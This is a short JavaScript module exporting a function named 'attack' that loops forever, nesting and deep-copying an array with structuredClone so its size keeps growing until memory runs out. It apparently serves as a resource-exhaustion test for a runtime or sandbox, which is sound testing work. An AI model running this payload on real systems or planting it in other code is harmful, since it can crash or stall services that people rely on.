export default function attack() {
  let value = [];
  for (;;) value = structuredClone([value, value, structuredClone(value)]);
}
